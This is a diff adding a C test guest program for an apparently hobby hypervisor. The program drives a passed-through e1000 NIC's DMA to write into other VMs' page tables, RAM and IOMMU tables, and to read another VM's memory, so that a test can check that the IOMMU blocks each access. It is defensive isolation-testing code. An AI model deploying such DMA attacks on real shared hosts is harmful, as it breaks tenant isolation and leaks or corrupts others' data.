@@ -1,0 +1,114 @@
+/* A malicious guest with a passed-through e1000 (its VM's PCI slot 1, on a loopback
+ * netdev: what it sends comes back to it).  It programs the NIC's DMA at host-physical
+ * addresses it was told on its command line, `dma=A,B,C,D`:
+ *
+ *   a  receive a frame into A (the VMM's memory: another VM's page tables)
+ *   b  receive a frame into B (another VM's RAM)
+ *   c  receive a frame into C (host RAM outside every VM: the IOMMU's own tables)
+ *   d  transmit a frame read from D (another VM's RAM: a leak), received back here
+ *
+ * and prints, for each, whether the DMA happened: "a:written", "d:read <8 bytes hex>",
+ * or "a:blocked".  Without an IOMMU a DMA address is host-physical and every attack
+ * lands; with it, each is a fault record (tests/test_passthrough.py).
+ */
+#include "e1000.h"
+
+static struct txd tx[8] __attribute__((aligned(4096)));
+static struct rxd rx[8] __attribute__((aligned(4096)));
+static u8 frame[64] __attribute__((aligned(64)));
+static u8 leak[2048] __attribute__((aligned(4096)));
+
+
+static u32 be32(const u8 *p) { return (u32)p[0] << 24 | (u32)p[1] << 16 | (u32)p[2] << 8 | p[3]; }
+static int streq(const char *a, const char *b) { while (*a && *a == *b) a++, b++; return *a == *b; }
+
+/* The chosen node's bootargs, from the device tree the VMM passed in a1. */
+static const char *bootargs(const u8 *fdt) {
+    if (be32(fdt) != 0xd00dfeed) return "";
+    const u8 *p = fdt + be32(fdt + 8);
+    const char *strings = (const char *)fdt + be32(fdt + 12);
+    for (;;) {
+        u32 token = be32(p);
+        p += 4;
+        if (token == 1) {                               /* FDT_BEGIN_NODE: skip the name */
+            while (*p) p++;
+            p = (const u8 *)(((u64)p + 4) & ~3UL);
+        } else if (token == 3) {                        /* FDT_PROP */
+            u32 len = be32(p), name = be32(p + 4);
+            if (streq(strings + name, "bootargs")) return (const char *)p + 8;
+            p = (const u8 *)(((u64)p + 8 + len + 3) & ~3UL);
+        } else if (token != 2 && token != 4) {          /* not END_NODE, not NOP: the end */
+            return "";
+        }
+    }
+}
+
+static int targets(const char *args, u64 *out, int n) {
+    while (*args && !(args[0] == 'd' && args[1] == 'm' && args[2] == 'a' && args[3] == '='))
+        args++;
+    if (!*args) return 0;
+    args += 4;
+    int k = 0;
+    while (k < n) {
+        u64 v = 0;
+        if (args[0] == '0' && args[1] == 'x') args += 2;
+        for (;; args++) {
+            char c = *args;
+            if (c >= '0' && c <= '9') v = v * 16 + (c - '0');
+            else if (c >= 'a' && c <= 'f') v = v * 16 + (c - 'a' + 10);
+            else break;
+        }
+        out[k++] = v;
+        if (*args != ',') break;
+        args++;
+    }
+    return k;
+}
+
+/* Fresh rings: receive into `rx_buf`, send `len` bytes from `tx_buf`; whether the
+ * receive descriptor came back done. */
+static int loop_frame(u64 rx_buf, u64 tx_buf, u16 len) {
+    R(RCTL) = 0;
+    R(TCTL) = 0;
+    rx[0] = (struct rxd){rx_buf, 0, 0, 0, 0, 0};
+    tx[0] = (struct txd){tx_buf, len, 0, 0x09, 0, 0, 0};    /* EOP, RS */
+    asm volatile("fence" ::: "memory");                     /* descriptors before the device */
+    R(RDBAL) = (u32)(u64)rx; R(RDBAH) = 0; R(RDLEN) = sizeof rx; R(RDH) = 0; R(RDT) = 1;
+    R(RCTL) = (1 << 1) | (1 << 3) | (1 << 4) | (1 << 15);   /* on, promiscuous, broadcast */
+    R(TDBAL) = (u32)(u64)tx; R(TDBAH) = 0; R(TDLEN) = sizeof tx; R(TDH) = 0; R(TDT) = 0;
+    R(TCTL) = 1 << 1;
+    R(TDT) = 1;
+    for (int i = 0; i < 100000 && !(rx[0].status & 1); i++)
+        asm volatile("" ::: "memory");
+    return rx[0].status & 1;
+}
+
+int main(long hart, const u8 *fdt) {
+    (void)hart;
+    u64 t[4];
+    if (targets(bootargs(fdt), t, 4) != 4) {
+        say("dma_attack: give dma=A,B,C,D on the command line\n");
+        return 1;
+    }
+    ECAM(1, 0x10) = E1000;                               /* place BAR0, enable it */
+    ECAM(1, 0x04) = 0x6;
+    for (int i = 0; i < 6; i++) frame[i] = 0xff;
+    frame[12] = 0x88; frame[13] = 0xb5;
+    for (int i = 14; i < 64; i++) frame[i] = "POPEK-DMA-ATTACK"[(i - 14) % 16];
+    static const char *written[] = {"a:written\n", "b:written\n", "c:written\n"};
+    static const char *blocked[] = {"a:blocked\n", "b:blocked\n", "c:blocked\n"};
+    for (int i = 0; i < 3; i++)                          /* (a line at once: VMs share a console) */
+        say(loop_frame(t[i], (u64)frame, sizeof frame) ? written[i] : blocked[i]);
+    if (loop_frame((u64)leak, t[3], 64)) {
+        char line[] = "d:read 0000000000000000\n";
+        for (int i = 0; i < 8; i++) {
+            line[7 + 2 * i] = "0123456789abcdef"[leak[i] >> 4];
+            line[8 + 2 * i] = "0123456789abcdef"[leak[i] & 15];
+        }
+        say(line);
+    } else {
+        say("d:blocked\n");
+    }
+    say("dma_attack: done\n");
+    return 0;
+}
